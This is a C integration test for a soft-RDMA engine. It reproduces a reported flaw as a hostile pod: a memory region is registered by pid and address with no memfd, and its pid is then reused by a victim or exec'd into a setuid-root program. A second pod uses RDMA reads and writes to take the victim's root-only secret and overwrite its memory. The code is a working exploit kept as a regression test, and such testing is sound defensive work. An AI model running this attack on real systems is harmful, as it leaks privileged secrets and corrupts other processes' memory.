/* SPDX-License-Identifier: MIT */
/*
 * Finding 2 of issue 8, played by a hostile pod: an MR that names memory
 * by (pid, address) instead of by a memory object follows whatever
 * process owns that pid later.
 *
 *   eng-mem-attack pidreuse NETNS_A NETNS_B IP_A IP_B SECRET_PROG FILE
 *   eng-mem-attack setuid   NETNS_A NETNS_B IP_A IP_B SECRET_PROG FILE
 *
 * Pod A's process H speaks the IPC itself (as a pod with its own library
 * would): it opens rdma0, registers an MR at ENG_MEM_ADDR with no memfd,
 * creates an RC QP and connects it to pod B's QP, then forks a child that
 * keeps the connection (and so the MR) alive.  pidreuse: H exits and the
 * test forces its pid onto a victim (SECRET_PROG FILE) by writing
 * ns_last_pid (run it inside `unshare --pid --fork --mount-proc` with the
 * engine).  setuid: H runs as uid 1234 and execs SECRET_PROG, a
 * setuid-root copy that reads root-only FILE.  Pod B (our libibverbs, a
 * normal client) then RDMA READs and WRITEs through the MR.
 *
 * Exit 0: the secret was neither read nor overwritten (the MR could not
 * be registered, or the access failed).  1: it leaked.  77: the set-up
 * could not be made (pid not reusable).  Other: test error.
 */
#include <errno.h>
#include <fcntl.h>
#include <grp.h>
#include <poll.h>
#include <sched.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>
#include <arpa/inet.h>

#include <infiniband/verbs.h>

#include "common/pv_ipc.h"
#include "providers/soft/pv-soft-ring-abi.h"
#include "tests/integration/engine_mem/eng_mem.h"

#define OVERWRITE	"overwritten-by-pod-b"
#define ATTACK_UID	1234

struct peer_info {
	int32_t status;		/* 0 or -errno (H: MR_REG's) */
	uint32_t qpn;
	uint32_t rkey;
	uint32_t gid_index;
	uint64_t addr;
};

struct read_result {
	int32_t read_status;	/* IBV_WC_* or -1 (no completion) */
	int32_t write_status;
	char data[ENG_MEM_SECRET_MAX + 1];
};

static void die(const char *what)
{
	fprintf(stderr, "error: %s: %s\n", what, strerror(errno));
	exit(3);
}

static void xwrite(int fd, const void *p, size_t n)
{
	if (write(fd, p, n) != (ssize_t)n)
		die("pipe write");
}

static int xread(int fd, void *p, size_t n)
{
	size_t got = 0;

	while (got < n) {
		ssize_t k = read(fd, (char *)p + got, n - got);

		if (k < 0 && errno == EINTR)
			continue;
		if (k <= 0)
			return -1;
		got += (size_t)k;
	}
	return 0;
}

static void enter_netns(const char *path)
{
	int fd = open(path, O_RDONLY | O_CLOEXEC);

	if (fd < 0 || setns(fd, CLONE_NEWNET) < 0)
		die(path);
	close(fd);
}

static void mapped_gid(const char *ip, uint8_t gid[16])
{
	memset(gid, 0, 16);
	gid[10] = gid[11] = 0xff;
	if (inet_pton(AF_INET, ip, gid + 12) != 1) {
		fprintf(stderr, "error: bad IPv4 %s\n", ip);
		exit(3);
	}
}

/* ---- pod A: the registering process, raw IPC ---- */

static int sock = -1;
static uint32_t seq;
static char resp[PV_IPC_MAX_PAYLOAD];

static int call(uint16_t op, const void *req, uint32_t len)
{
	return pv_ipc_call(sock, &seq, op, req, len, resp, sizeof(resp),
			   NULL, NULL, NULL);
}

static int raw_open(const char *name)
{
	struct pv_ipc_hello h = { .abi_version = PV_IPC_VERSION };
	struct pv_ipc_dev_list *l = (struct pv_ipc_dev_list *)resp;
	struct pv_ipc_dev_ref ref = { 0 };
	int ret, ns;

	sock = pv_ipc_connect(pv_ipc_socket_path());
	if (sock < 0)
		return sock;
	/* HELLO proves the namespace with an fd of it, as the provider
	 * does: without one the pod sees no device. */
	ns = open("/proc/thread-self/ns/net", O_RDONLY | O_CLOEXEC);
	if (ns >= 0)
		h.flags = PV_HELLO_NETNS;
	ret = pv_ipc_call_fds(sock, &seq, PV_OP_HELLO, &h, sizeof(h), &ns,
			      ns >= 0 ? 1 : 0, resp, sizeof(resp), NULL, NULL,
			      NULL);
	if (ns >= 0)
		close(ns);
	if (ret == 0)
		ret = call(PV_OP_DEV_LIST, NULL, 0);
	for (uint32_t i = 0; ret == 0 && i < l->count; i++)
		if (strcmp(l->dev[i].name, name) == 0)
			ref.dev_id = l->dev[i].dev_id;
	if (ret == 0)
		ret = call(PV_OP_CTX_OPEN, &ref, sizeof(ref));
	return ret;
}

/* MR_REG as the provider sends it, but with no memfd behind it. */
static int raw_mr_no_fd(uint32_t pd, uint32_t *rkey)
{
	struct {
		struct pv_ipc_mr_reg reg;
		struct pv_ipc_mr_backing backing;
	} req = { .reg = {
		.pd_handle = pd, .addr = ENG_MEM_ADDR, .iova = ENG_MEM_ADDR,
		.length = ENG_MEM_LEN,
		.access = IBV_ACCESS_LOCAL_WRITE | IBV_ACCESS_REMOTE_READ |
			  IBV_ACCESS_REMOTE_WRITE,
	} };
	int ret = call(PV_OP_MR_REG, &req, sizeof(req));

	if (ret == 0)
		*rkey = ((struct pv_ipc_mr_reg_resp *)resp)->rkey;
	return ret;
}

static int raw_qp_rtr(uint32_t pd, const struct peer_info *b,
		      const char *ip_b, uint32_t *qpn)
{
	struct pv_ipc_cq_create cq = { .cqe = 16 };
	struct pv_ipc_qp_create qc = { .pd_handle = pd, .qp_type = IBV_QPT_RC,
		.cap = { .max_send_wr = 4, .max_recv_wr = 4,
			 .max_send_sge = 1, .max_recv_sge = 1 } };
	struct pv_ipc_qp_modify m = { 0 };
	int ret;

	ret = call(PV_OP_CQ_CREATE, &cq, sizeof(cq));
	if (ret < 0)
		return ret;
	qc.send_cq_handle = qc.recv_cq_handle =
		((struct pv_ipc_cq_resp *)resp)->handle;
	ret = call(PV_OP_QP_CREATE, &qc, sizeof(qc));
	if (ret < 0)
		return ret;
	m.qp_handle = ((struct pv_ipc_qp_create_resp *)resp)->handle;
	*qpn = ((struct pv_ipc_qp_create_resp *)resp)->qp_num;
	m.attr_mask = IBV_QP_STATE | IBV_QP_PKEY_INDEX | IBV_QP_PORT |
		      IBV_QP_ACCESS_FLAGS;
	m.attr.qp_state = IBV_QPS_INIT;
	m.attr.port_num = 1;
	m.attr.qp_access_flags = IBV_ACCESS_LOCAL_WRITE |
		IBV_ACCESS_REMOTE_READ | IBV_ACCESS_REMOTE_WRITE;
	ret = call(PV_OP_QP_MODIFY, &m, sizeof(m));
	if (ret < 0)
		return ret;
	m.attr_mask = IBV_QP_STATE | IBV_QP_AV | IBV_QP_PATH_MTU |
		      IBV_QP_DEST_QPN | IBV_QP_RQ_PSN |
		      IBV_QP_MAX_DEST_RD_ATOMIC | IBV_QP_MIN_RNR_TIMER;
	m.attr.qp_state = IBV_QPS_RTR;
	m.attr.path_mtu = IBV_MTU_1024;
	m.attr.dest_qp_num = b->qpn;
	m.attr.max_dest_rd_atomic = 1;
	m.attr.min_rnr_timer = 1;
	m.attr.ah_attr.is_global = 1;
	m.attr.ah_attr.port_num = 1;
	m.attr.ah_attr.hop_limit = 64;
	m.attr.ah_attr.sgid_index = (uint8_t)b->gid_index;
	mapped_gid(ip_b, m.attr.ah_attr.dgid);
	return call(PV_OP_QP_MODIFY, &m, sizeof(m));
}

/* H: registers, connects, leaves a child holding the connection, then
 * exits (pidreuse) or execs the setuid victim (setuid). */
static void pod_a(char **argv, bool setuid_mode, int in, int out,
		  int v_in, int v_out)
{
	struct peer_info b, a = { 0 };
	uint32_t pd;
	char c;

	enter_netns(argv[2]);
	if (setuid_mode) {
		if (setgroups(0, NULL) < 0 ||
		    setresgid(ATTACK_UID, ATTACK_UID, ATTACK_UID) < 0 ||
		    setresuid(ATTACK_UID, ATTACK_UID, ATTACK_UID) < 0)
			die("drop to uid 1234");
		if (open(argv[7], O_RDONLY) >= 0 || errno != EACCES) {
			fprintf(stderr, "error: uid %d can read %s itself\n",
				ATTACK_UID, argv[7]);
			exit(3);
		}
		printf("pod A: uid %d, cannot read %s itself (EACCES)\n",
		       (int)getuid(), argv[7]);
	}
	if (xread(in, &b, sizeof(b)) < 0)
		exit(3);
	a.status = raw_open("rdma0");
	if (a.status == 0)
		a.status = call(PV_OP_PD_ALLOC, NULL, 0);
	pd = *(uint32_t *)resp;
	if (a.status == 0)
		a.status = raw_mr_no_fd(pd, &a.rkey);
	if (a.status == 0)
		a.status = raw_qp_rtr(pd, &b, argv[5], &a.qpn);
	a.addr = ENG_MEM_ADDR;
	if (a.status < 0) {
		xwrite(out, &a, sizeof(a));
		exit(0);
	}
	if (fork() == 0) {
		/* Keeps the socket (and the MR) until the test ends. */
		while (read(in, &c, 1) > 0)
			;
		_exit(0);
	}
	xwrite(out, &a, sizeof(a));
	if (!setuid_mode)
		exit(0);
	if (dup2(v_in, 0) < 0 || dup2(v_out, 1) < 0)
		die("dup2");
	close(in);
	execl(argv[6], argv[6], argv[7], (char *)NULL);
	die("exec the setuid victim");
}

/* ---- pod B: an ordinary client of our libibverbs ---- */

struct pod_b_res {
	struct ibv_context *ctx;
	struct ibv_pd *pd;
	struct ibv_cq *cq;
	struct ibv_qp *qp;
	struct ibv_mr *mr;
	char *buf;			/* ENG_MEM_LEN, on the heap */
};

static int find_gid(struct ibv_context *ctx, const char *ip)
{
	uint8_t want[16];
	union ibv_gid g;

	mapped_gid(ip, want);
	for (int i = 0; i < 16; i++)
		if (ibv_query_gid(ctx, 1, i, &g) == 0 &&
		    memcmp(g.raw, want, 16) == 0)
			return i;
	return -1;
}

static void pod_b_setup(struct pod_b_res *r, const char *ip_b,
			struct peer_info *me)
{
	struct ibv_device **l = ibv_get_device_list(NULL);
	struct ibv_qp_init_attr ia = { .qp_type = IBV_QPT_RC,
		.cap = { .max_send_wr = 4, .max_recv_wr = 4,
			 .max_send_sge = 1, .max_recv_sge = 1 } };
	int gi;

	if (!l || !l[0] || !(r->ctx = ibv_open_device(l[0])))
		die("pod B: open device");
	r->pd = ibv_alloc_pd(r->ctx);
	r->cq = r->pd ? ibv_create_cq(r->ctx, 16, NULL, NULL, 0) : NULL;
	r->buf = malloc(ENG_MEM_LEN);
	r->mr = r->cq && r->buf ? ibv_reg_mr(r->pd, r->buf, ENG_MEM_LEN,
				   IBV_ACCESS_LOCAL_WRITE) : NULL;
	ia.send_cq = ia.recv_cq = r->cq;
	r->qp = r->mr ? ibv_create_qp(r->pd, &ia) : NULL;
	if (!r->qp)
		die("pod B: verbs objects");
	gi = find_gid(r->ctx, ip_b);
	if (gi < 0)
		die("pod B: no IPv4-mapped GID");
	me->qpn = r->qp->qp_num;
	me->gid_index = (uint32_t)gi;
}

static void pod_b_connect(struct pod_b_res *r, const struct peer_info *me,
			  const struct peer_info *a, const char *ip_a)
{
	struct ibv_qp_attr at = { .qp_state = IBV_QPS_INIT, .port_num = 1 };

	if (ibv_modify_qp(r->qp, &at, IBV_QP_STATE | IBV_QP_PKEY_INDEX |
			  IBV_QP_PORT | IBV_QP_ACCESS_FLAGS))
		die("pod B: INIT");
	memset(&at, 0, sizeof(at));
	at.qp_state = IBV_QPS_RTR;
	at.path_mtu = IBV_MTU_1024;
	at.dest_qp_num = a->qpn;
	at.max_dest_rd_atomic = 1;
	at.min_rnr_timer = 1;
	at.ah_attr.is_global = 1;
	at.ah_attr.port_num = 1;
	at.ah_attr.grh.hop_limit = 64;
	at.ah_attr.grh.sgid_index = (uint8_t)me->gid_index;
	mapped_gid(ip_a, at.ah_attr.grh.dgid.raw);
	if (ibv_modify_qp(r->qp, &at, IBV_QP_STATE | IBV_QP_AV |
			  IBV_QP_PATH_MTU | IBV_QP_DEST_QPN | IBV_QP_RQ_PSN |
			  IBV_QP_MAX_DEST_RD_ATOMIC | IBV_QP_MIN_RNR_TIMER))
		die("pod B: RTR");
	memset(&at, 0, sizeof(at));
	at.qp_state = IBV_QPS_RTS;
	at.timeout = 10;
	at.retry_cnt = 1;
	at.rnr_retry = 1;
	at.max_rd_atomic = 1;
	if (ibv_modify_qp(r->qp, &at, IBV_QP_STATE | IBV_QP_TIMEOUT |
			  IBV_QP_RETRY_CNT | IBV_QP_RNR_RETRY | IBV_QP_SQ_PSN |
			  IBV_QP_MAX_QP_RD_ATOMIC))
		die("pod B: RTS");
}

/* One RDMA op of len bytes at buf; the WC status or -1 after 5 s. */
static int pod_b_op(struct pod_b_res *r, enum ibv_wr_opcode op,
		    const struct peer_info *a, uint32_t len)
{
	struct ibv_sge sge = { .addr = (uintptr_t)r->buf, .length = len,
			       .lkey = r->mr->lkey };
	struct ibv_send_wr wr = { .sg_list = &sge, .num_sge = 1,
		.opcode = op, .send_flags = IBV_SEND_SIGNALED,
		.wr.rdma = { .remote_addr = a->addr, .rkey = a->rkey } }, *bad;
	struct timespec t0, t;
	struct ibv_wc wc;

	if (ibv_post_send(r->qp, &wr, &bad))
		return -1;
	clock_gettime(CLOCK_MONOTONIC, &t0);
	do {
		if (ibv_poll_cq(r->cq, 1, &wc) == 1)
			return wc.status;
		clock_gettime(CLOCK_MONOTONIC, &t);
	} while (t.tv_sec - t0.tv_sec < 5);
	return -1;
}

static void pod_b(char **argv, int in, int out)
{
	struct pod_b_res r = { 0 };
	struct peer_info me = { 0 }, a;
	struct read_result res = { .read_status = -1, .write_status = -1 };
	char go;

	enter_netns(argv[3]);
	pod_b_setup(&r, argv[5], &me);
	xwrite(out, &me, sizeof(me));
	if (xread(in, &a, sizeof(a)) < 0)
		exit(0);
	pod_b_connect(&r, &me, &a, argv[4]);
	if (xread(in, &go, 1) < 0)
		exit(0);
	memset(r.buf, 0, ENG_MEM_LEN);
	res.read_status = pod_b_op(&r, IBV_WR_RDMA_READ, &a,
				   ENG_MEM_SECRET_MAX);
	memcpy(res.data, r.buf, ENG_MEM_SECRET_MAX);
	strcpy(r.buf, OVERWRITE);
	if (res.read_status == IBV_WC_SUCCESS)
		res.write_status = pod_b_op(&r, IBV_WR_RDMA_WRITE, &a,
					    sizeof(OVERWRITE));
	xwrite(out, &res, sizeof(res));
	exit(0);
}

/* ---- the test ---- */

static pid_t spawn_victim(char **argv, pid_t want, int v_in, int v_out)
{
	FILE *f = fopen("/proc/sys/kernel/ns_last_pid", "we");
	pid_t pid;

	if (!f || fprintf(f, "%d", (int)want - 1) < 0 || fclose(f) != 0)
		die("ns_last_pid (run inside unshare --pid --fork --mount-proc)");
	pid = fork();
	if (pid == 0) {
		if (dup2(v_in, 0) < 0 || dup2(v_out, 1) < 0)
			die("dup2");
		execl(argv[6], argv[6], argv[7], (char *)NULL);
		die("exec victim");
	}
	return pid;
}

static void pod_b_died(pid_t pb)
{
	int st = 0;

	waitpid(pb, &st, 0);
	printf("error: pod B ended early (%s %d)\n",
	       WIFSIGNALED(st) ? "signal" : "status",
	       WIFSIGNALED(st) ? WTERMSIG(st) : WEXITSTATUS(st));
	exit(3);
}

static int verdict(const char *secret, const struct read_result *res,
		   const char *memory)
{
	bool leaked = res->read_status == IBV_WC_SUCCESS &&
		      strncmp(res->data, secret, ENG_MEM_SECRET_MAX) == 0;
	bool written = strcmp(memory, OVERWRITE) == 0;

	printf("pod B: RDMA READ status %d, read '%.*s'\n", res->read_status,
	       ENG_MEM_SECRET_MAX, res->data);
	printf("pod B: RDMA WRITE status %d\n", res->write_status);
	printf("victim's memory afterwards: '%s'\n", memory);
	if (leaked)
		printf("LEAK: pod B read the victim's secret through pod A's MR\n");
	if (written)
		printf("CORRUPTION: pod B overwrote the victim's memory\n");
	return leaked || written ? 1 : 0;
}

static void read_secret(const char *path, char *out)
{
	FILE *f = fopen(path, "re");

	if (!f || !fgets(out, ENG_MEM_SECRET_MAX + 1, f))
		die(path);
	fclose(f);
	out[strcspn(out, "\n")] = '\0';
}

int main(int argc, char **argv)
{
	int to_b[2], from_b[2], to_a[2], from_a[2], v_in[2], v_out[2];
	char secret[ENG_MEM_SECRET_MAX + 1], line[256], memory[256] = "";
	struct peer_info b, a;
	struct read_result res;
	bool setuid_mode;
	pid_t pa, pb;
	FILE *vf;
	int st;

	setvbuf(stdout, NULL, _IOLBF, 0);
	if (argc != 8 || (strcmp(argv[1], "pidreuse") != 0 &&
			  strcmp(argv[1], "setuid") != 0))
		return 2;
	setuid_mode = strcmp(argv[1], "setuid") == 0;
	read_secret(argv[7], secret);
	if (pipe2(to_b, O_CLOEXEC) || pipe2(from_b, O_CLOEXEC) ||
	    pipe2(to_a, O_CLOEXEC) || pipe2(from_a, O_CLOEXEC) ||
	    pipe2(v_in, O_CLOEXEC) || pipe2(v_out, O_CLOEXEC))
		die("pipe");
	pb = fork();
	if (pb == 0)
		pod_b(argv, to_b[0], from_b[1]);
	close(to_b[0]);
	close(from_b[1]);
	if (xread(from_b[0], &b, sizeof(b)) < 0)
		pod_b_died(pb);
	pa = fork();
	if (pa == 0)
		pod_a(argv, setuid_mode, to_a[0], from_a[1], v_in[0], v_out[1]);
	close(from_a[1]);
	xwrite(to_a[1], &b, sizeof(b));
	if (xread(from_a[0], &a, sizeof(a)) < 0)
		die("pod A set-up");
	if (a.status < 0) {
		printf("pod A: MR without a memfd refused: %s\n",
		       strerror(-a.status));
		printf("no such MR: nothing to read through\n");
		return 0;
	}
	printf("pod A (pid %d): MR at 0x%llx rkey 0x%x with no memfd, QP %u\n",
	       (int)pa, (unsigned long long)a.addr, a.rkey, a.qpn);
	xwrite(to_b[1], &a, sizeof(a));
	if (!setuid_mode) {
		if (waitpid(pa, &st, 0) != pa)
			die("wait for pod A");
		spawn_victim(argv, pa, v_in[0], v_out[1]);
	}
	close(v_out[1]);
	vf = fdopen(v_out[0], "r");
	if (!vf || !fgets(line, sizeof(line), vf) ||
	    strncmp(line, "ready ", 6) != 0) {
		printf("error: victim did not start\n");
		return 3;
	}
	if (atoi(line + 6) != (int)pa) {
		printf("SKIP: victim got pid %d, not %d\n", atoi(line + 6),
		       (int)pa);
		return 77;
	}
	printf("victim (pid %d, %s) holds its secret at 0x%llx\n", (int)pa,
	       setuid_mode ? "setuid root after exec" : "reused pid",
	       (unsigned long long)ENG_MEM_ADDR);
	xwrite(to_b[1], "g", 1);
	if (xread(from_b[0], &res, sizeof(res)) < 0)
		pod_b_died(pb);
	xwrite(v_in[1], "x", 1);
	if (fgets(line, sizeof(line), vf) && strncmp(line, "memory: ", 8) == 0)
		snprintf(memory, sizeof(memory), "%.*s",
			 (int)strcspn(line + 8, "\n"), line + 8);
	return verdict(secret, &res, memory);
}
